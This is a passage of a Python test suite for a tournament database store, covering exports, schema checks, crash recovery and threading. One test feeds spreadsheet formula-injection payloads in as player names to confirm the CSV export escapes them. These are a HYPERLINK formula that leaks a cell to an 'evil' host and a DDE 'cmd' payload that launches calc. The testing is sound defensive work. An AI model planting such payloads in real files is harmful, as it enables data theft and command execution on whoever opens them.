    drop_evidence(db)
    db.execute("DROP TABLE retired")
    db.execute("DROP TRIGGER held_are_kept")        # nor version 3's held results
    db.execute("DROP TABLE held")
    as_version_3_kept_rejected(db)
    db.execute("UPDATE layli_schema SET version = 1")
    db.commit()
    db.close()
    store = Store(path)
    assert store._db.execute("SELECT version FROM layli_schema").fetchone()[0] == SCHEMA_VERSION
    assert store.record_move("Club night/r1/b1", "table-1", 1, 2)
    assert store.moves("Club night/r1/b1") == [2] and store.relocations() == []
    assert store.retired() == {} and store.held() == []
    assert [row.id for row in store.games()][:2] == ["Club night/r1/b1", "Club night/r1/b2"]
    store.close()


# Rejected messages ----------------------------------------------------------------------------

def test_rejected_messages_are_kept_and_counted_by_reason():
    store = Store(":memory:", clock=Clock())
    store.log_rejected("layli/table/table-1/result", "forged", '{"table": "table-2"}',
                       detail="the table field says table-2", table="table-1")
    store.log_rejected("layli/table/table-1/move", "malformed", b"\xff{not json" + b"x" * 5000,
                       table="table-1")
    store.log_rejected("layli/table/table-3/move", "malformed", "", table="table-3")
    assert store.rejected_counts() == {"forged": 1, "malformed": 2}
    latest = store.rejected(limit=2)
    assert [(r.topic, r.reason) for r in latest] == [
        ("layli/table/table-3/move", "malformed"), ("layli/table/table-1/move", "malformed")]
    assert latest[1].payload.startswith("\ufffd{not json") and len(latest[1].payload) == 1000
    assert store.rejected()[2].detail == "the table field says table-2"
    assert store.counts()["rejected"] == 3


def test_a_flood_of_rejected_messages_is_one_row_a_table_and_reason():
    """Issue 17: 5,035 rows from one table's flood; now one, with its count."""
    clock = Clock()
    store = Store(":memory:", clock=clock)
    for number in range(5000):
        store.log_rejected("layli/table/table-2/move", "MessageError", b"{%d}" % number,
                           detail="bad %d" % number, table="table-2")
    store.log_rejected("layli/table/table-1/move", "MessageError", b"{}", table="table-1")
    rows = store.rejected()
    assert [(row.table, row.count) for row in rows] == [("table-1", 1), ("table-2", 5000)]
    flood = rows[1]
    assert (flood.detail, flood.payload) == ("bad 4999", "{4999}")
    assert flood.first_at < flood.at
    assert store.rejected_counts() == {"MessageError": 5001}
    assert store._db.execute("SELECT COUNT(*) FROM rejections").fetchone()[0] == 2
    refused("a rejected message's reason must not be empty", store.log_rejected, "t", "", "")
    refused("a rejected message's payload must be text, not 5", store.log_rejected, "t", "x", 5)


# Queries and exports --------------------------------------------------------------------------

def finished_event() -> Store:
    store = started(players=5)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    store.record_result("Club night/r1/b2", DRAW, "1. 2 *\n")
    store.correct("Club night/r1/b2", LOSS, "Ali", "North won on time")
    store.add_round(2, [Pairing(2, 1, 2, 5), Pairing(2, 2, 4, 1), Pairing(2, 3, 3, None)],
                    {1: "table-3", 2: "table-1"})
    store.mark_playing("Club night/r2/b1")
    store.log_rejected("layli/table/table-9/result", "forged", "{}")
    return store


def test_counts_history_and_records():
    store = finished_event()
    assert store.counts() == {"assigned": 1, "playing": 1, "reported": 1, "confirmed": 2,
                              "corrected": 1, "games": 6, "results": 4, "duplicates": 1,
                              "corrections": 1, "rejected": 1}
    assert store.history() == [
        (Pairing(1, 1, 1, 2), WIN), (Pairing(1, 2, 3, 4), LOSS),
        (Pairing(1, 3, 5, None), Result(1.0, 0, 0)), (Pairing(2, 1, 2, 5), None),
        (Pairing(2, 2, 4, 1), None), (Pairing(2, 3, 3, None), Result(1.0, 0, 0))]
    assert store.records() == {"Club night/r1/b1": RECORD, "Club night/r1/b2": "1. 2 *\n"}
    assert [game.id for game in store.games()] == [
        "Club night/r1/b1", "Club night/r1/b2", "Club night/r1/b3", "Club night/r2/b1",
        "Club night/r2/b2", "Club night/r2/b3"]


def test_export_csv():
    text = export_csv(finished_event())
    assert text == (
        "round,board,table,south,north,result,seeds,status\n"
        "1,1,table-1,P1,P2,1-0,30-18,reported\n"
        "1,2,table-2,P3,P4,0-1,20-28,corrected\n"
        "1,3,,P5,bye,1-0,0-0,confirmed\n"
        "2,1,table-3,P2,P5,,,playing\n"
        "2,2,table-1,P4,P1,,,assigned\n"
        "2,3,,P3,bye,1-0,0-0,confirmed\n")
    assert len(list(csv.reader(io.StringIO(text)))) == 7


def test_export_csv_writes_formula_names_as_text():
    """Issue 17: a name a spreadsheet would run (=, +, -, @; a tab or a return the store
    refuses in a name already) is written as text, with an apostrophe ahead; the rest as it
    was."""
    store = new_store(":memory:")
    names = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "Amina"]
    for index, name in enumerate(names):
        store.register(name, 2000 - index)
    store.add_table("table-1")
    store.add_table("table-2")
    store.fix_numbers()
    store.add_round(1, [Pairing(1, 1, 1, 2), Pairing(1, 2, 3, 4), Pairing(1, 3, 5, None)],
                    {1: "table-1", 2: "table-2"})
    rows = list(csv.reader(io.StringIO(export_csv(store))))[1:]
    cells = [row[3] for row in rows] + [row[4] for row in rows]
    assert sorted(cells) == sorted(["'" + name for name in names[:4]] + ["Amina", "bye"])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_export_json_is_the_whole_event():
    exported = export_json(finished_event())
    assert json.loads(json.dumps(exported)) == exported
    assert exported["schema"] == SCHEMA_VERSION
    assert exported["event"] == {
        "name": "Club night", "variant": "layli-goobalay", "options": {}, "system": "swiss",
        "rounds": 3, "match_format": "game", "bye_points": 1.0, "tie_breaks": list(TIE_BREAKS)}
    assert exported["players"][0] == {"number": 1, "name": "P1", "rating": 2000, "club": "",
                                      "withdrawn_from": None}
    assert [t["id"] for t in exported["tables"]] == ["table-1", "table-2", "table-3"]
    assert [r["round"] for r in exported["rounds"]] == [1, 2]
    assert exported["games"][0] == {
        "id": "Club night/r1/b1", "round": 1, "board": 1, "table": "table-1", "south": 1,
        "north": 2, "status": "reported",
        "result": {"south_points": 1.0, "south_seeds": 30, "north_seeds": 18},
        "record": RECORD, "source": "board", "confirmed_by": None, "duplicates": 1}
    assert exported["games"][4]["result"] is None
    assert exported["corrections"] == [{
        "game": "Club night/r1/b2",
        "old": {"south_points": 0.5, "south_seeds": 24, "north_seeds": 24},
        "new": {"south_points": 0.0, "south_seeds": 20, "north_seeds": 28},
        "arbiter": "Ali", "reason": "North won on time", "at": exported["corrections"][0]["at"]}]
    assert exported["rejected"] == {"forged": 1}


def test_result_text():
    assert [result_text(r) for r in (WIN, DRAW, LOSS)] == ["1-0", "1/2-1/2", "0-1"]


# The file: reopening, schema, durability ------------------------------------------------------

def test_everything_is_there_after_reopening(tmp_path):
    path = str(tmp_path / "event.db")
    store = finished_event_at(path)
    exported = export_json(store)
    store.close()
    with Store(path) as again:
        assert export_json(again) == exported
        assert again.numbers_fixed()
        assert again._db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert again._db.execute("PRAGMA foreign_keys").fetchone()[0] == 1
        # and goes on where it stopped
        again.record_result("Club night/r2/b1", DRAW, RECORD)
        assert again.game("Club night/r2/b1").status == "reported"


def finished_event_at(path: str) -> Store:
    store = started(path, players=5)
    store.record_result("Club night/r1/b1", WIN, RECORD)
    store.record_result("Club night/r1/b2", DRAW, RECORD)
    store.correct("Club night/r1/b2", LOSS, "Ali", "North won on time")
    store.add_round(2, [Pairing(2, 1, 2, 5), Pairing(2, 2, 4, 1), Pairing(2, 3, 3, None)],
                    {1: "table-3", 2: "table-1"})
    return store


def test_a_file_that_is_not_a_tournament_database_is_refused(tmp_path):
    text = tmp_path / "notes.txt"
    text.write_bytes(b"players: Ayan, Hodan\n" * 100)
    refused("notes.txt is not a tournament database (file is not a database)", Store,
            str(text))
    other = tmp_path / "other.db"
    db = sqlite3.connect(other)
    db.execute("CREATE TABLE moves (id INTEGER)")
    db.execute("CREATE TABLE players (id INTEGER)")
    db.commit()
    db.close()
    error = refused("other.db is not a tournament database (its tables: moves, players)",
                    Store, str(other))
    assert isinstance(error, SchemaError)
    refused("cannot open the tournament database", Store, str(tmp_path / "no" / "such.db"))


def test_a_file_from_a_newer_version_is_refused(tmp_path):
    path = str(tmp_path / "event.db")
    Store(path).close()
    db = sqlite3.connect(path)
    db.execute("UPDATE layli_schema SET version = ?", (SCHEMA_VERSION + 1,))
    db.commit()
    db.close()
    error = refused("event.db was written by a newer version of layli (schema version %d; this "
                    "one reads up to %d): upgrade layli to open it" % (
                        SCHEMA_VERSION + 1, SCHEMA_VERSION), Store, path)
    assert isinstance(error, SchemaError)


def test_an_empty_file_becomes_a_tournament_database(tmp_path):
    path = tmp_path / "new.db"
    path.write_bytes(b"")
    with Store(str(path)) as store:
        assert store.create_event("Open", "tampoduo").name == "Open"


def abort_on(store: Store, trigger: str) -> None:
    """Make the next write fail inside its transaction, after some of its statements ran."""
    store._db.execute("CREATE TEMP TRIGGER fail %s BEGIN SELECT RAISE(ABORT, 'disk on fire');"
                      " END" % trigger)


ROUND_2_WITH_BYE = ([Pairing(2, 1, 2, 5), Pairing(2, 2, 4, 1), Pairing(2, 3, 3, None)],
                    {1: "table-3", 2: "table-1"})


@pytest.mark.parametrize("setup, trigger, write", [
    ("round 1 done", "AFTER INSERT ON games WHEN NEW.board = 3",
     lambda s: s.add_round(2, *ROUND_2_WITH_BYE)),
    ("round 1 done", "AFTER INSERT ON results WHEN NEW.game_id LIKE '%/r2/%'",
     lambda s: s.add_round(2, *ROUND_2_WITH_BYE)),
    ("round 1", "AFTER UPDATE ON games",
     lambda s: s.record_result("Club night/r1/b1", WIN, RECORD)),
    ("round 1", "AFTER INSERT ON corrections",
     lambda s: s.correct("Club night/r1/b2", WIN, "Ali", "typo")),
    ("round 1", "AFTER UPDATE ON games", lambda s: s.confirm("Club night/r1/b2", "Ali")),
    ("registered", "AFTER UPDATE ON event", lambda s: s.fix_numbers()),
])
def test_a_write_that_fails_half_way_leaves_the_database_as_it_was(tmp_path, setup, trigger,
                                                                    write):
    path = str(tmp_path / "event.db")
    if setup == "registered":
        store = new_store(path)
        for name in ("Ayan", "Hodan", "Bile"):
            store.register(name)
    else:
        store = started(path, players=5)
        store.record_result("Club night/r1/b2", DRAW, RECORD)
        if setup == "round 1 done":
            store.record_result("Club night/r1/b1", WIN, RECORD)
    before = dump(store)
    abort_on(store, trigger)
    with pytest.raises(sqlite3.IntegrityError, match="disk on fire"):
        write(store)
    assert dump(store) == before
    assert not store._db.in_transaction
    store.close()
    with Store(path) as again:
        assert dump(again) == before
        write(again)                            # and the same write works afterwards


CRASH = """
import os, sys
sys.path.insert(0, sys.argv[2])
from controller.tournament.model import Pairing, Result
from controller.tournament.store import Store
store = Store(sys.argv[1])
# The process dies in the middle of the transaction, after its last statement ran.
store._db.create_function("crash", 0, lambda: os._exit(9))
store._db.execute("CREATE TEMP TRIGGER die AFTER INSERT ON %s BEGIN SELECT crash(); END")
%s
"""


@pytest.mark.parametrize("table, write", [
    ("corrections", "store.correct('Club night/r1/b2', Result(1.0, 40, 8), 'Ali', 'typo')"),
    ("results", "store.record_result('Club night/r1/b1', Result(0.0, 1, 47), 'x')"),
    ("games", "store.add_round(2, [Pairing(2, 1, 2, 5), Pairing(2, 2, 4, 1), "
              "Pairing(2, 3, 3, None)], {1: 'table-3', 2: 'table-1'})"),
])
def test_a_process_killed_in_the_middle_of_a_write_leaves_the_database_as_it_was(
        tmp_path, table, write):
    path = str(tmp_path / "event.db")
    store = started(path, players=5)
    store.record_result("Club night/r1/b2", DRAW, RECORD)
    if table == "games":
        store.record_result("Club night/r1/b1", WIN, RECORD)
    before = dump(store)
    store.close()
    done = subprocess.run([sys.executable, "-c", CRASH % (table, write), path, str(ROOT)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 9, done.stderr
    with Store(path) as again:
        assert dump(again) == before


# Threads --------------------------------------------------------------------------------------

def test_one_store_serves_two_threads_at_once(tmp_path):
    store = new_store(str(tmp_path / "event.db"), rounds=1)
    players = 40
    for index in range(players):
        store.register("P%d" % index)
    for board in range(1, players // 2 + 1):
        store.add_table("table-%d" % board)
    store.fix_numbers()
    boards = range(1, players // 2 + 1)
    store.add_round(1, [Pairing(1, b, 2 * b - 1, 2 * b) for b in boards],
                    {b: "table-%d" % b for b in boards})
    outcomes: dict[str, list[bool]] = {"a": [], "b": []}
    errors: list[BaseException] = []
    start = threading.Barrier(2)

    def worker(name: str) -> None:
        try:
            start.wait()
            for board in boards:                    # both threads send every result
                game = "Club night/r1/b%d" % board
                outcomes[name].append(store.record_result(game, WIN, RECORD))
                store.log_rejected("layli/table/x/move", "thread-" + name, "{}")
                store.set_table_status("table-%d" % board, "online")
                assert len(store.games(1)) == len(boards)
                export_json(store)
        except BaseException as error:              # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=worker, args=(name,)) for name in outcomes]
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)     # switch threads as often as possible: calls interleave
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        sys.setswitchinterval(interval)
    assert errors == []
    # every game recorded exactly once: one thread won it, the other saw a copy
    assert sum(outcomes["a"]) + sum(outcomes["b"]) == len(boards)
    counts = store.counts()
    assert (counts["results"], counts["duplicates"], counts["reported"]) == (
        len(boards), len(boards), len(boards))
    assert store.rejected_counts() == {"thread-a": len(boards), "thread-b": len(boards)}


def test_two_stores_on_one_file_from_two_threads(tmp_path):
    path = str(tmp_path / "event.db")
    first = new_store(path)
    second = Store(path)
    errors: list[BaseException] = []

    def worker(store: Store, prefix: str) -> None:
        try:
            for index in range(30):
                store.register("%s%d" % (prefix, index))
                store.players()
        except BaseException as error:              # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=worker, args=(store, prefix))
               for store, prefix in ((first, "a"), (second, "b"))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(first.players()) == len(second.players()) == 60
    second.close()
    first.close()
    assert os.path.exists(path)


def test_the_arbiter_enters_the_result_of_a_game_whose_board_failed():
    store = started(players=5)
    game = "Club night/r1/b1"
    store.correct(game, DRAW, "Ali", "table-1 broke down; agreed draw")
    row = store.game(game)
    assert (row.status, row.result, row.source, row.record) == ("corrected", DRAW, "arbiter", "")
    (entry,) = store.corrections(game)
    assert entry.old is None and entry.new == DRAW and entry.reason.startswith("table-1")
    assert export_json(store)["corrections"][0]["old"] is None
    # the board comes back and sends its own: a conflict for the arbiter, nothing changed
    with pytest.raises(ResultConflict):
        store.record_result(game, WIN, RECORD)
    assert store.game(game).result == DRAW and store.corrections(game) == [entry]
